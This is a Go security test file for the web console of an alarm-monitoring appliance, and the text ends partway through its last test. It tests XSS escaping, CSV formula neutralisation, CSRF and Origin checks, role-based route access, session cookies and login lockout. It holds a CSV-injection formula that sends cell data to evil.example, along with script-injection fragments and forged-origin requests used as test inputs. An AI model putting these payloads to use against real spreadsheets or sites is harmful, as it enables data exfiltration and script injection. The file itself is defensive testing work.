@@ -1,0 +1,741 @@
+package console_test
+
+import (
+	"bytes"
+	"context"
+	"encoding/csv"
+	"errors"
+	"fmt"
+	"net/http"
+	"net/url"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/vigilarc/vigil/appliance"
+	"github.com/vigilarc/vigil/appliance/monitoring"
+	"github.com/vigilarc/vigil/ui/auth"
+	"github.com/vigilarc/vigil/ui/console"
+)
+
+// mustSecurityEnv is one node with the seed, an open alarm of the hostile
+// worker Eve and one of Amira, and Olivia signed in over plain HTTP.
+type securityEnv struct {
+	node       *appliance.Node
+	svc        *monitoring.Service
+	olivia     *httpSession // operator
+	sam        *httpSession // supervisor
+	ada        *httpSession // admin
+	eveAlarm   string
+	amiraAlarm string
+	fixture    fixture
+}
+
+// adaPassword is the password of Ada, the admin of the security tests.
+const adaPassword = "ada administers the appliance"
+
+// hostileCSV would run as a formula in a spreadsheet if exported as it is.
+const hostileCSV = `=HYPERLINK("https://evil.example/?"&A1,"click")`
+
+func mustSecurityEnv(t *testing.T) *securityEnv {
+	t.Helper()
+	n := mustNodes(t, 1)[0]
+	svc := n.Service()
+	e := &securityEnv{node: n, svc: svc, fixture: mustSeed(t, svc)}
+	ctx := context.Background()
+	a, err := svc.RaiseAlarm(ctx, "sec-eve", "device:d-eve", monitoring.RaiseAlarmRequest{Type: monitoring.AlarmRedAlert, DeviceID: "d-eve",
+		Location: &monitoring.Location{Lat: 53.48, Lon: -2.29, Accuracy: 30, Source: "wifi"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	e.eveAlarm = a.ID
+	if _, err := svc.Acknowledge(ctx, "sec-eve-ack", "olivia", a.ID, false); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := svc.LogAction(ctx, "sec-eve-note", "olivia", a.ID, monitoring.TimelineEntry{Kind: monitoring.ActionNote, Text: hostileMedical}); err != nil {
+		t.Fatal(err)
+	}
+	a, err = svc.RaiseAlarm(ctx, "sec-amira", "device:d-amira", monitoring.RaiseAlarmRequest{Type: monitoring.AlarmManDown, DeviceID: "d-amira"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	e.amiraAlarm = a.ID
+	// Hostile strings on the new pages too: Eve's session and its Update
+	// message, an operator's name, a note that is a spreadsheet formula.
+	if _, err := svc.StartSession(ctx, "sec-eve-session", "device:d-eve", monitoring.StartSessionRequest{WorkerID: "w-eve", DeviceID: "d-eve",
+		Duration: time.Hour, Update: hostileMedical, Location: &monitoring.Location{Lat: 53.4, Lon: -2.2, Address: hostileStep}}); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := svc.LogAction(ctx, "sec-eve-csv", "olivia", e.eveAlarm, monitoring.TimelineEntry{Kind: monitoring.ActionNote, Text: hostileCSV}); err != nil {
+		t.Fatal(err)
+	}
+	b, err := svc.RaiseAlarm(ctx, "sec-ben", "device:d-ben", monitoring.RaiseAlarmRequest{Type: monitoring.AlarmRedAlert, DeviceID: "d-ben"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := svc.Acknowledge(ctx, "sec-ben-ack", "olivia", b.ID, false); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := svc.Close(ctx, "sec-ben-close", "olivia", b.ID, monitoring.ResolutionFalseAlarm, hostileCSV); err != nil {
+		t.Fatal(err)
+	}
+	for _, o := range []monitoring.PutOperatorRequest{
+		{ID: "ada", Name: "Ada Lovelace", Role: monitoring.RoleAdmin, Password: adaPassword, Create: true},
+		{ID: "mallory", Name: hostileName, Role: monitoring.RoleOperator, Password: "mallory's password", Create: true},
+	} {
+		if _, err := svc.PutOperator(ctx, "sec-op-"+o.ID, "setup", o); err != nil {
+			t.Fatal(err)
+		}
+	}
+	for _, s := range []struct {
+		sess           **httpSession
+		user, password string
+	}{{&e.olivia, "olivia", oliviaPassword}, {&e.sam, "sam", samPassword}, {&e.ada, "ada", adaPassword}} {
+		*s.sess = newHTTPSession(t, baseURL(n))
+		if code := (*s.sess).signIn(s.user, s.password); code != http.StatusOK {
+			t.Fatalf("sign in %s: %d", s.user, code)
+		}
+	}
+	return e
+}
+
+func TestSecurity_HostileStringsRenderInert(t *testing.T) {
+	e := mustSecurityEnv(t)
+	for _, path := range []string{"/ui/", "/ui/alarms/" + e.eveAlarm, "/ui/queue.json", "/ui/sessions", "/ui/sessions?q=" + url.QueryEscape(hostileName),
+		"/ui/cluster", "/ui/reports", "/ui/reports?org=housing", "/ui/admin/organisations", "/ui/admin/organisations/housing",
+		"/ui/admin/workers", "/ui/admin/workers/w-eve", "/ui/admin/devices", "/ui/admin/devices/d-eve", "/ui/admin/operators",
+		"/ui/admin/operators?edit=mallory"} {
+		resp, body := e.ada.do(http.MethodGet, path, nil, nil)
+		if resp.StatusCode != http.StatusOK {
+			t.Fatalf("%s: %d", path, resp.StatusCode)
+		}
+		for _, bad := range []string{"<script>window.pwned", "<img src=x", `"><script>`, `<b onclick`, `<i>"Repairs"`,
+			`href="javascript:`, `src="javascript:`, "onerror=\"window", "href=\"tel:javascript"} {
+			if strings.Contains(body, bad) {
+				t.Errorf("%s contains %q unescaped", path, bad)
+			}
+		}
+		if strings.HasSuffix(path, ".json") {
+			continue
+		}
+		if !strings.Contains(body, "Eve &lt;script&gt;window.pwned=1&lt;/script&gt;") && !strings.Contains(path, "organisations") && path != "/ui/cluster" {
+			t.Errorf("%s does not show the hostile name escaped", path)
+		}
+		// Exactly one script element: the console's own file.
+		if n := strings.Count(body, "<script"); n != 1 {
+			t.Errorf("%s has %d script elements, want 1", path, n)
+		}
+		if csp := resp.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "script-src 'self'") || strings.Contains(csp, "unsafe-inline") {
+			t.Errorf("%s: CSP %q", path, csp)
+		}
+	}
+}
+
+// TestSecurity_CSVExportIsInert: the export quotes what a spreadsheet
+// would take for a formula, and is only for supervisors.
+func TestSecurity_CSVExportIsInert(t *testing.T) {
+	e := mustSecurityEnv(t)
+	resp, body := e.sam.do(http.MethodGet, "/ui/reports/alarms.csv", nil, nil)
+	if resp.StatusCode != http.StatusOK || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") ||
+		!strings.HasPrefix(resp.Header.Get("Content-Disposition"), "attachment;") {
+		t.Fatalf("export: %d %v", resp.StatusCode, resp.Header)
+	}
+	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+	if err != nil || len(rows) != 4 {
+		t.Fatalf("%d rows (%v):\n%s", len(rows), err, body)
+	}
+	for _, r := range rows {
+		for _, cell := range r {
+			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
+				t.Errorf("cell %q would be a formula", cell)
+			}
+		}
+	}
+	if !strings.Contains(body, "'"+hostileCSV[:10]) || !strings.Contains(body, "Eve <script>") {
+		t.Errorf("the export lost the note or the name:\n%s", body)
+	}
+	if resp, _ := e.olivia.do(http.MethodGet, "/ui/reports/alarms.csv", nil, nil); resp.StatusCode != http.StatusForbidden {
+		t.Errorf("an operator's export: %d", resp.StatusCode)
+	}
+}
+
+func TestSecurity_CrossSitePostsRefused(t *testing.T) {
+	e := mustSecurityEnv(t)
+	path := "/ui/alarms/" + e.amiraAlarm + "/acknowledge"
+	for _, tc := range []struct {
+		name    string
+		form    url.Values
+		headers map[string]string
+	}{
+		{"no CSRF token", url.Values{}, nil},
+		{"wrong CSRF token", url.Values{"csrf": {"x" + e.olivia.csrf[1:]}}, nil},
+		{"another session's token", url.Values{"csrf": {otherCSRF(t, e)}}, nil},
+		{"foreign Origin", url.Values{"csrf": {e.olivia.csrf}}, map[string]string{"Origin": "https://evil.example"}},
+		{"null Origin", url.Values{"csrf": {e.olivia.csrf}}, map[string]string{"Origin": "null"}},
+		{"no Origin nor Referer", url.Values{"csrf": {e.olivia.csrf}}, map[string]string{"Origin": ""}},
+		{"foreign Referer only", url.Values{"csrf": {e.olivia.csrf}}, map[string]string{"Origin": "", "Referer": "https://evil.example/x"}},
+		{"look-alike Origin", url.Values{"csrf": {e.olivia.csrf}}, map[string]string{"Origin": e.olivia.base + ".evil.example"}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			resp, body := e.olivia.do(http.MethodPost, path, tc.form, tc.headers)
+			if resp.StatusCode != http.StatusForbidden {
+				t.Fatalf("status %d, want 403: %s", resp.StatusCode, body)
+			}
+		})
+	}
+	if a, _ := e.svc.Alarm(e.amiraAlarm); a.AckBy != "" {
+		t.Fatalf("a refused post acknowledged the alarm: %+v", a)
+	}
+	// The same request from the page itself works, as a form and as the
+	// script's fetch.
+	resp, _ := e.olivia.do(http.MethodPost, path, url.Values{"csrf": {e.olivia.csrf}, "cmd_id": {"k1"}}, nil)
+	if resp.StatusCode != http.StatusSeeOther {
+		t.Fatalf("a same-origin post: %d", resp.StatusCode)
+	}
+	resp, body := e.olivia.do(http.MethodPost, "/ui/alarms/"+e.amiraAlarm+"/actions", url.Values{"kind": {"listen_in"}},
+		map[string]string{"X-CSRF-Token": e.olivia.csrf, "Accept": "application/json"})
+	if resp.StatusCode != http.StatusOK || !strings.Contains(body, `"ok":true`) {
+		t.Fatalf("the script's post: %d %s", resp.StatusCode, body)
+	}
+	// Every other state-changing route refuses the same cross-site
+	// requests, even from an admin.
+	posts := map[string]url.Values{
+		"/ui/logout":        {},
+		"/ui/resume/ticket": {},
+		"/ui/alarms/" + e.amiraAlarm + "/actions": {"kind": {"listen_in"}},
+		"/ui/alarms/" + e.amiraAlarm + "/close":   {"resolution": {"false_alarm"}},
+		"/ui/alarms/" + e.eveAlarm + "/reopen":    {"reason": {"x"}},
+		"/ui/admin/organisations":                 {"new": {"1"}, "id": {"evilcorp"}, "name": {"Evil"}},
+		"/ui/admin/workers":                       {"new": {"1"}, "id": {"w-evil"}, "name": {"Evil"}, "org_id": {"northcare"}},
+		"/ui/admin/workers/w-amira/pins":          {"safe_pin": {"4321"}},
+		"/ui/admin/devices":                       {"new": {"1"}, "id": {"d-evil"}, "kind": {"phone_app"}, "org_id": {"northcare"}, "worker_id": {"w-amira"}},
+		"/ui/admin/devices/d-amira/credentials":   {},
+		"/ui/admin/operators":                     {"create": {"1"}, "id": {"evil"}, "name": {"Evil"}, "role": {"admin"}, "password": {"evil evil evil"}},
+	}
+	before := stateOf(t, e)
+	for path, form := range posts {
+		for _, tc := range []struct {
+			name    string
+			csrf    string
+			headers map[string]string
+		}{
+			{"no CSRF token", "", nil},
+			{"another session's token", e.olivia.csrf, nil},
+			{"foreign Origin", e.ada.csrf, map[string]string{"Origin": "https://evil.example"}},
+			{"no Origin nor Referer", e.ada.csrf, map[string]string{"Origin": ""}},
+		} {
+			f := url.Values{}
+			for k, v := range form {
+				f[k] = v
+			}
+			if tc.csrf != "" {
+				f.Set("csrf", tc.csrf)
+			}
+			resp, body := e.ada.do(http.MethodPost, path, f, tc.headers)
+			if resp.StatusCode != http.StatusForbidden {
+				t.Errorf("POST %s, %s: %d, want 403: %s", path, tc.name, resp.StatusCode, body)
+			}
+		}
+	}
+	if after := stateOf(t, e); after != before {
+		t.Errorf("refused cross-site posts changed the directory:\nbefore %s\nafter  %s", before, after)
+	}
+	// A hand-over from a site that is no console of the cluster.
+	resp, body = newHTTPSession(t, baseURL(e.node)).do(http.MethodPost, "/ui/resume", url.Values{"ticket": {"x"}},
+		map[string]string{"Origin": "https://evil.example"})
+	if resp.StatusCode != http.StatusForbidden {
+		t.Errorf("a hand-over from evil.example: %d %s", resp.StatusCode, body)
+	}
+
+	// Sign-in itself: a foreign Origin, or no login token, is refused.
+	s := newHTTPSession(t, baseURL(e.node))
+	_, page := s.do(http.MethodGet, "/ui/login", nil, nil)
+	tok := csrfInputRE.FindStringSubmatch(page)[1]
+	form := url.Values{"user": {"olivia"}, "password": {oliviaPassword}, "csrf": {tok}}
+	if resp, _ := s.do(http.MethodPost, "/ui/login", form, map[string]string{"Origin": "https://evil.example"}); resp.StatusCode != http.StatusForbidden {
+		t.Fatalf("a cross-site sign-in: %d", resp.StatusCode)
+	}
+	bad := url.Values{"user": {"olivia"}, "password": {oliviaPassword}, "csrf": {"forged"}}
+	if resp, _ := s.do(http.MethodPost, "/ui/login", bad, nil); resp.StatusCode != http.StatusForbidden {
+		t.Fatalf("a sign-in without the form's token: %d", resp.StatusCode)
+	}
+}
+
+// otherCSRF signs Sam in and returns his page's CSRF token.
+func otherCSRF(t *testing.T, e *securityEnv) string {
+	s := newHTTPSession(t, baseURL(e.node))
+	if code := s.signIn("sam", samPassword); code != http.StatusOK {
+		t.Fatalf("sam: %d", code)
+	}
+	return s.csrf
+}
+
+// stateOf summarises what the refused posts could have changed.
+func stateOf(t *testing.T, e *securityEnv) string {
+	t.Helper()
+	var sb strings.Builder
+	orgs, err1 := e.svc.Organisations()
+	workers, err2 := e.svc.Workers("")
+	devices, err3 := e.svc.Devices()
+	ops, err4 := e.svc.Operators()
+	if err := errors.Join(err1, err2, err3, err4); err != nil {
+		t.Fatal(err)
+	}
+	for _, o := range orgs {
+		fmt.Fprintf(&sb, "org %s %s; ", o.ID, o.UpdatedAt)
+	}
+	for _, w := range workers {
+		fmt.Fprintf(&sb, "worker %s pins %d; ", w.ID, w.PINVersion)
+	}
+	for _, d := range devices {
+		fmt.Fprintf(&sb, "device %s %s; ", d.ID, d.UpdatedAt)
+	}
+	for _, o := range ops {
+		fmt.Fprintf(&sb, "operator %s %s; ", o.ID, o.Role)
+	}
+	for _, id := range []string{"d-amira", "d-ben"} {
+		fmt.Fprintf(&sb, "secret %s %v; ", id, e.svc.CheckDeviceSecret(id, secretOf(e, id)))
+	}
+	for _, id := range []string{e.amiraAlarm, e.eveAlarm} {
+		a, err := e.svc.Alarm(id)
+		if err != nil {
+			t.Fatal(err)
+		}
+		fmt.Fprintf(&sb, "alarm %s %s %d; ", a.ID, a.Status, a.Actions)
+	}
+	return sb.String()
+}
+
+func secretOf(e *securityEnv, device string) string {
+	for _, d := range []deviceCred{e.fixture.amira, e.fixture.ben, e.fixture.eve} {
+		if d.device == device {
+			return d.secret
+		}
+	}
+	return ""
+}
+
+// consoleRoutes are the console's routes, with who may call them: "" any
+// signed-in operator, a role, "bearer" the local setup token, "public"
+// anyone (they tell nothing and change nothing without a ticket).
+var consoleRoutes = map[string]string{
+	"GET /ui":                                "",
+	"GET /ui/":                               "",
+	"GET /ui/events":                         "",
+	"GET /ui/queue.json":                     "",
+	"GET /ui/alarms/:id":                     "",
+	"POST /ui/logout":                        "",
+	"POST /ui/alarms/:id/acknowledge":        "",
+	"POST /ui/alarms/:id/actions":            "",
+	"POST /ui/alarms/:id/close":              "",
+	"POST /ui/alarms/:id/reopen":             "supervisor",
+	"POST /ui/resume/ticket":                 "",
+	"GET /ui/sessions":                       "",
+	"GET /ui/cluster":                        "",
+	"GET /ui/reports":                        "supervisor",
+	"GET /ui/reports/alarms.csv":             "supervisor",
+	"GET /ui/admin":                          "admin",
+	"GET /ui/admin/organisations":            "admin",
+	"GET /ui/admin/organisations/:id":        "admin",
+	"POST /ui/admin/organisations":           "admin",
+	"GET /ui/admin/workers":                  "admin",
+	"GET /ui/admin/workers/:id":              "admin",
+	"POST /ui/admin/workers":                 "admin",
+	"POST /ui/admin/workers/:id/pins":        "admin",
+	"GET /ui/admin/devices":                  "admin",
+	"GET /ui/admin/devices/:id":              "admin",
+	"POST /ui/admin/devices":                 "admin",
+	"POST /ui/admin/devices/:id/credentials": "admin",
+	"GET /ui/admin/operators":                "admin",
+	"POST /ui/admin/operators":               "admin",
+	"GET /ui/setup/operators":                "bearer",
+	"POST /ui/setup/operators":               "bearer",
+	"GET /ui/setup/tokens":                   "bearer",
+	"POST /ui/setup/tokens":                  "bearer",
+	"POST /ui/setup/tokens/:id/disable":      "bearer",
+	"GET /ui/alive":                          "public",
+	"POST /ui/resume":                        "public",
+}
+
+// routePath fills in a route's parameters.
+func routePath(e *securityEnv, route string) (method, path string) {
+	method, path, _ = strings.Cut(route, " ")
+	id := e.amiraAlarm
+	switch {
+	case strings.Contains(path, "/workers/"):
+		id = "w-amira"
+	case strings.Contains(path, "/devices/"):
+		id = "d-amira"
+	case strings.Contains(path, "/organisations/"):
+		id = "northcare"
+	}
+	return method, strings.ReplaceAll(path, ":id", id)
+}
+
+func TestSecurity_EveryRouteRefusesAnonymousCallers(t *testing.T) {
+	e := mustSecurityEnv(t)
+	anon := newHTTPSession(t, baseURL(e.node))
+	routes := consoleRoutes
+	// Every route the console mounts is in the list, so that a new one
+	// cannot be forgotten here.
+	for _, r := range mountedRoutes(t) {
+		switch {
+		case r == "GET /ui/login", r == "POST /ui/login", strings.HasPrefix(r, "GET /ui/static/"), strings.HasPrefix(r, "HEAD /ui/static/"):
+			continue
+		}
+		if _, ok := routes[r]; !ok {
+			t.Errorf("route %s is not checked for anonymous callers", r)
+		}
+	}
+	for r, kind := range routes {
+		method, path := routePath(e, r)
+		page := map[string]string{"Accept": "text/html,application/xhtml+xml,*/*;q=0.8"}
+		for _, headers := range []map[string]string{page, nil, {"Accept": "application/json"}, {"Accept": "text/event-stream"}} {
+			resp, body := anon.do(method, path, url.Values{"csrf": {"x"}, "ticket": {"made-up"}}, headers)
+			switch {
+			case kind == "public":
+				// Anyone may ask whether the node is up; a made-up ticket
+				// signs nobody in.
+				if r == "POST /ui/resume" && (resp.StatusCode != http.StatusUnauthorized || len(anon.cookies) != 0 || !strings.Contains(body, "Sign in")) {
+					t.Errorf("%s with a made-up ticket: %d, cookies %v", r, resp.StatusCode, anon.cookies)
+				}
+				if r == "GET /ui/alive" && (resp.StatusCode != http.StatusOK || !strings.Contains(body, `"ok":true`)) {
+					t.Errorf("%s: %d %s", r, resp.StatusCode, body)
+				}
+			case kind == "bearer" || method == http.MethodPost || headers["Accept"] != page["Accept"]:
+				if resp.StatusCode != http.StatusUnauthorized {
+					t.Errorf("%s %v: %d, want 401: %s", r, headers, resp.StatusCode, body)
+				}
+			default:
+				if resp.StatusCode != http.StatusSeeOther || !strings.HasPrefix(resp.Header.Get("Location"), "/ui/login?next=") {
+					t.Errorf("%s: %d to %q, want 303 to the sign-in page", r, resp.StatusCode, resp.Header.Get("Location"))
+				}
+			}
+			if strings.Contains(body, "Amira") {
+				t.Errorf("%s told an anonymous caller about the alarm: %s", r, body)
+			}
+		}
+	}
+	// An operator is refused the supervisors' and the admins' routes, and a
+	// supervisor the admins', with a valid session and CSRF token: nothing
+	// changes.
+	before := stateOf(t, e)
+	for r, kind := range routes {
+		method, path := routePath(e, r)
+		for _, caller := range []struct {
+			s    *httpSession
+			role monitoring.OperatorRole
+		}{{e.olivia, monitoring.RoleOperator}, {e.sam, monitoring.RoleSupervisor}} {
+			need := monitoring.OperatorRole(kind)
+			if !need.Valid() || caller.role.AtLeast(need) {
+				continue
+			}
+			form := url.Values{"csrf": {caller.s.csrf}, "new": {"1"}, "create": {"1"}, "id": {"x-" + string(caller.role)}, "name": {"X"},
+				"role": {"admin"}, "password": {"a long password indeed"}, "org_id": {"northcare"}, "kind": {"pooled"}, "safe_pin": {"4321"}}
+			for _, headers := range []map[string]string{{"Accept": "text/html"}, {"Accept": "application/json"}} {
+				resp, body := caller.s.do(method, path, form, headers)
+				if resp.StatusCode != http.StatusForbidden {
+					t.Errorf("%s as %s (%v): %d, want 403", r, caller.role, headers, resp.StatusCode)
+				}
+				if strings.Contains(body, "Amira") || strings.Contains(body, "North Care") {
+					t.Errorf("%s told a %s what only a %s may see", r, caller.role, kind)
+				}
+			}
+		}
+	}
+	if after := stateOf(t, e); after != before {
+		t.Errorf("refused requests changed the directory:\nbefore %s\nafter  %s", before, after)
+	}
+
+	// A session cookie that is not a session is anonymous too.
+	anon.cookies["__Host-vigil_session"] = "made-up"
+	if resp, _ := anon.do(http.MethodGet, "/ui/queue.json", nil, nil); resp.StatusCode != http.StatusUnauthorized {
+		t.Errorf("a made-up session: %d", resp.StatusCode)
+	}
+	// The setup API refuses a wrong token.
+	if resp, _ := anon.do(http.MethodGet, "/ui/setup/operators", nil, map[string]string{"Authorization": "Bearer nope"}); resp.StatusCode != http.StatusUnauthorized {
+		t.Errorf("setup with a wrong token: %d", resp.StatusCode)
+	}
+	// The REST API refuses anonymous callers too (every route of it:
+	// appliance's TestAPIAuth_EveryRoute).
+	if resp, body := anon.do(http.MethodGet, "/api/v1/alarms", nil, nil); resp.StatusCode != http.StatusUnauthorized || strings.Contains(body, "Amira") {
+		t.Errorf("GET /api/v1/alarms: %d", resp.StatusCode)
+	}
+}
+
+// The console's own pages use the REST API with the sign-in cookie: reads
+// as they are (the alarm page's audio link), writes with the page's CSRF
+// token and Origin, as the console's forms; the roles are the console's.
+func TestSecurity_RESTAPIWithTheConsoleCookie(t *testing.T) {
+	e := mustSecurityEnv(t)
+	audio := "/api/v1/alarms/" + e.amiraAlarm + "/audio.wav"
+	if resp, body := e.olivia.do(http.MethodGet, audio, nil, nil); resp.StatusCode != http.StatusNotFound || !strings.Contains(body, "has no audio") {
+		t.Errorf("the alarm page's audio link: %d %s; want 404 (no audio), past the sign-in", resp.StatusCode, body)
+	}
+	if resp, body := e.olivia.do(http.MethodGet, "/api/v1/alarms/"+e.amiraAlarm, nil, nil); resp.StatusCode != http.StatusOK || !strings.Contains(body, "d-amira") {
+		t.Errorf("GET the alarm: %d %s", resp.StatusCode, body)
+	}
+	before := stateOf(t, e)
+	path := "/api/v1/alarms/" + e.eveAlarm + "/actions" // Olivia holds it
+	note := `{"id":"cookie-note","kind":"note","text":"through the API"}`
+	for _, tc := range []struct {
+		name    string
+		headers map[string]string
+		mention string
+	}{
+		{"no CSRF token", nil, "security token"},
+		{"a wrong CSRF token", map[string]string{"X-CSRF-Token": e.sam.csrf}, "security token"},
+		{"another origin", map[string]string{"X-CSRF-Token": e.olivia.csrf, "Origin": "https://evil.example"}, "did not come from"},
+	} {
+		h := map[string]string{"Content-Type": "application/json"}
+		for k, v := range tc.headers {
+			h[k] = v
+		}
+		resp, body := e.olivia.doBody(http.MethodPost, path, note, h)
+		if resp.StatusCode != http.StatusForbidden || !strings.Contains(body, tc.mention) {
+			t.Errorf("a cookie POST with %s: %d %s", tc.name, resp.StatusCode, body)
+		}
+	}
+	if after := stateOf(t, e); after != before {
+		t.Errorf("refused API requests changed the state:\nbefore %s\nafter  %s", before, after)
+	}
+	hdr := map[string]string{"Content-Type": "application/json", "X-CSRF-Token": e.olivia.csrf}
+	if resp, body := e.olivia.doBody(http.MethodPost, path, note, hdr); resp.StatusCode != http.StatusOK || !strings.Contains(body, `"id"`) {
+		t.Fatalf("a cookie POST with the CSRF token: %d %s", resp.StatusCode, body)
+	}
+	tl, err := e.svc.Timeline(e.eveAlarm)
+	if err != nil || tl[len(tl)-1].Actor != "olivia" || tl[len(tl)-1].Text != "through the API" {
+		t.Errorf("the note is by %+v (%v), want olivia", tl[len(tl)-1], err)
+	}
+	// An operator's cookie is an operator's: no KPIs, no directory.
+	if resp, body := e.olivia.do(http.MethodGet, "/api/v1/kpis", nil, nil); resp.StatusCode != http.StatusForbidden || !strings.Contains(body, "supervisor") {
+		t.Errorf("an operator's KPIs: %d %s", resp.StatusCode, body)
+	}
+	if resp, _ := e.sam.do(http.MethodGet, "/api/v1/kpis", nil, nil); resp.StatusCode != http.StatusOK {
+		t.Errorf("a supervisor's KPIs: %d", resp.StatusCode)
+	}
+	if resp, _ := e.sam.do(http.MethodGet, "/api/v1/tokens", nil, nil); resp.StatusCode != http.StatusForbidden {
+		t.Errorf("a supervisor's tokens: %d", resp.StatusCode)
+	}
+	if resp, _ := e.ada.do(http.MethodGet, "/api/v1/tokens", nil, nil); resp.StatusCode != http.StatusOK {
+		t.Errorf("an admin's tokens: %d", resp.StatusCode)
+	}
+	// Signed out, the cookie is nobody.
+	e.olivia.do(http.MethodPost, "/ui/logout", url.Values{"csrf": {e.olivia.csrf}}, nil)
+	e.olivia.cookies["__Host-vigil_session"] = "made-up"
+	if resp, _ := e.olivia.do(http.MethodGet, "/api/v1/alarms", nil, nil); resp.StatusCode != http.StatusUnauthorized {
+		t.Errorf("after signing out: %d", resp.StatusCode)
+	}
+}
+
+// mountedRoutes lists "METHOD path" of every route the console mounts.
+func mountedRoutes(t *testing.T) []string {
+	t.Helper()
+	c, err := console.New(console.Config{}, nil, auth.New(auth.Config{}, nil))
+	if err != nil {
+		t.Fatal(err)
+	}
+	r := newEngine()
+	c.Mount(r)
+	var out []string
+	for _, ri := range r.Routes() {
+		out = append(out, ri.Method+" "+ri.Path)
+	}
+	return out
+}
+
+func TestSecurity_SessionCookieAndSignOut(t *testing.T) {
+	e := mustSecurityEnv(t)
+	s := newHTTPSession(t, baseURL(e.node))
+	_, page := s.do(http.MethodGet, "/ui/login", nil, nil)
+	tok := csrfInputRE.FindStringSubmatch(page)[1]
+	resp, _ := s.do(http.MethodPost, "/ui/login", url.Values{"user": {"olivia"}, "password": {oliviaPassword}, "csrf": {tok}, "next": {"https://evil.example/"}}, nil)
+	if resp.StatusCode != http.StatusSeeOther || resp.Header.Get("Location") != "/ui/" {
+		t.Fatalf("sign-in with a foreign next: %d to %q", resp.StatusCode, resp.Header.Get("Location"))
+	}
+	var cookie *http.Cookie
+	for _, c := range resp.Cookies() {
+		if c.Name == "__Host-vigil_session" && c.Value != "" {
+			cookie = c
+		}
+	}
+	if cookie == nil || !cookie.HttpOnly || !cookie.Secure || cookie.SameSite != http.SameSiteStrictMode || cookie.Path != "/" {
+		t.Fatalf("session cookie %+v: want __Host-, HttpOnly, Secure, SameSite=Strict, Path=/", cookie)
+	}
+	if resp, _ := s.do(http.MethodGet, "/ui/queue.json", nil, nil); resp.StatusCode != http.StatusOK {
+		t.Fatalf("signed in: %d", resp.StatusCode)
+	}
+	_, page = s.do(http.MethodGet, "/ui/", nil, nil)
+	csrf := csrfMetaRE.FindStringSubmatch(page)[1]
+	if resp, _ := s.do(http.MethodPost, "/ui/logout", url.Values{"csrf": {csrf}}, nil); resp.StatusCode != http.StatusSeeOther {
+		t.Fatalf("sign out: %d", resp.StatusCode)
+	}
+	// The old cookie no longer works, even if a browser kept it.
+	s.cookies["__Host-vigil_session"] = cookie.Value
+	if resp, _ := s.do(http.MethodGet, "/ui/queue.json", nil, nil); resp.StatusCode != http.StatusUnauthorized {
+		t.Fatalf("after sign-out: %d", resp.StatusCode)
+	}
+}
+
+func TestSecurity_LockoutAndRateLimit(t *testing.T) {
+	e := mustSecurityEnv(t)
+	s := newHTTPSession(t, baseURL(e.node))
+	for i := range monitoring.MaxFailedLogins - 1 {
+		if code := s.signIn("sam", "not the password"); code != http.StatusUnauthorized {
+			t.Fatalf("wrong password %d: %d", i+1, code)
+		}
+	}
+	_, page := s.do(http.MethodGet, "/ui/login", nil, nil)
+	tok := csrfInputRE.FindStringSubmatch(page)[1]
+	resp, body := s.do(http.MethodPost, "/ui/login", url.Values{"user": {"sam"}, "password": {"still wrong"}, "csrf": {tok}}, nil)
+	if resp.StatusCode != http.StatusForbidden || !strings.Contains(body, "locked") {
+		t.Fatalf("the fifth wrong password: %d %s", resp.StatusCode, body)
+	}
+	if code := s.signIn("sam", samPassword); code != http.StatusForbidden {
+		t.Fatalf("the right password while locked: %d", code)
+	}
+	// Olivia is not locked, but this address has used its attempts.
+	for i := 0; ; i++ {
+		code := s.signIn("olivia", "wrong again")
+		if code == http.StatusTooManyRequests {
+			break
+		}
+		if i > 20 {
+			t.Fatal("no rate limit after 20 attempts")
+		}
+	}
+	a, err := e.svc.Operators()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, o := range a {
+		if o.ID == "olivia" && o.FailedLogins >= monitoring.MaxFailedLogins {
+			t.Fatalf("rate-limited attempts were counted: %+v", o)
+		}
+	}
+}
+
+func TestSecurity_OperatorCannotTakeOver(t *testing.T) {
+	e := mustSecurityEnv(t)
+	ctx := context.Background()
+	if _, err := e.svc.Acknowledge(ctx, "sam-ack", "sam", e.amiraAlarm, false); err != nil {
+		t.Fatal(err)
+	}
+	path := "/ui/alarms/" + e.amiraAlarm + "/acknowledge"
+	resp, _ := e.olivia.do(http.MethodPost, path, url.Values{"csrf": {e.olivia.csrf}, "takeover": {"1"}}, nil)
+	if resp.StatusCode != http.StatusForbidden {
+		t.Fatalf("an operator's takeover: %d", resp.StatusCode)
+	}
+	resp, body := e.olivia.do(http.MethodPost, path, url.Values{"csrf": {e.olivia.csrf}}, nil)
+	if resp.StatusCode != http.StatusConflict || !strings.Contains(body, "held by sam") {
+		t.Fatalf("acknowledging an alarm Sam holds: %d", resp.StatusCode)
+	}
+}
+
+// vigil token makes, lists and disables API tokens through the local setup
+// API; the secret is printed once, and the token works on the REST API
+// until it is disabled.
+func TestSetup_TokenCommand(t *testing.T) {
+	n := mustNodes(t, 1)[0]
+	run := func(args ...string) (string, string, error) {
+		var out, errOut bytes.Buffer
+		err := appliance.TokenCommand(context.Background(), args, appliance.CommandEnv{
+			Stdout: &out, Stderr: &errOut,
+			LoadConfig: func(string) (string, string, error) { return dataDir(n), n.HTTPAddr(), nil },
+		})
+		return out.String(), errOut.String(), err
+	}
+	out, errOut, err := run("create", "--name", "wallboard")
+	secret := strings.TrimSpace(out)
+	if err != nil || !strings.HasPrefix(secret, "vgt_") || !strings.Contains(errOut, "wallboard, operator) made") {
+		t.Fatalf("create: %v\n%s%s", err, out, errOut)
+	}
+	id := strings.SplitN(strings.TrimPrefix(secret, "vgt_"), "_", 2)[0]
+	api := func() int {
+		req, _ := http.NewRequest(http.MethodGet, baseURL(n)+"/api/v1/alarms", nil)
+		req.Header.Set("Authorization", "Bearer "+secret)
+		resp, err := http.DefaultClient.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Body.Close()
+		return resp.StatusCode
+	}
+	if code := api(); code != http.StatusOK {
+		t.Fatalf("the new token on the API: %d", code)
+	}
